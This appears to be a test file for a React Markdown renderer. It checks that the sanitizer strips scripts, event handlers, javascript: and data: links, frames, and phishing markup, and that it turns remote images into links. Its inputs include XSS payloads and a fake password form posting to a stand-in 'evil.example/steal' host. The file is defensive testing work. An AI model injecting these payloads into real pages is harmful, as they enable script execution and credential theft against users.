import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";

import { Markdown } from "./Markdown";

describe("Markdown", () => {
  it("renders formatting but strips anything that could run", () => {
    const { container } = render(
      <Markdown
        source={
          '**bold** [ok](https://example.com) <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">x</a><script>alert(3)</script>'
        }
      />,
    );
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("[onerror]")).toBeNull();
    expect(container.querySelector('a[href^="javascript"]')).toBeNull();
    const link = container.querySelector('a[href="https://example.com"]');
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });
});

describe("Markdown allow-list (issue 18, finding 6)", () => {
  const phishing = [
    '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button><textarea></textarea><select></select></form>',
    '<div style="position:fixed;inset:0;z-index:9999" class="modal show" id="root">Nimbus needs you to sign in again</div>',
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><svg><a href="javascript:alert(1)">s</a></svg>',
    "![beacon](https://tracker.example/pixel.gif) [js](javascript:alert(1)) [data](data:text/html,x)",
    "![attachment](/api/v1/attachments/1/content)",
  ].join("\n\n");

  it("keeps no form, control, style, class, id, frame or script URL", () => {
    const { container } = render(<Markdown source={phishing} />);
    const box = container;
    expect(box.querySelector("form, input, button, textarea, select, iframe, object, embed, svg")).toBeNull();
    expect(box.querySelector(".markdown [style], .markdown [class], .markdown [id]")).toBeNull();
    expect(box.querySelector('a[href^="javascript"], a[href^="data"]')).toBeNull();
    expect(box.textContent).toContain("Nimbus needs you to sign in again"); // as plain text
  });

  it("turns remote images into a link naming the host and keeps same-origin ones", () => {
    const { container } = render(<Markdown source={phishing} />);
    const images = [...container.querySelectorAll("img")].map((i) => i.getAttribute("src"));
    expect(images).toEqual(["/api/v1/attachments/1/content"]);
    const placeholder = [...container.querySelectorAll("a")].find((a) =>
      a.textContent.startsWith("Image from"),
    );
    expect(placeholder).toBeDefined();
    expect(placeholder).toHaveTextContent("tracker.example");
    expect(placeholder).toHaveAttribute("href", "https://tracker.example/pixel.gif");
    expect(placeholder).toHaveAttribute("rel", "noopener noreferrer nofollow");
  });
});
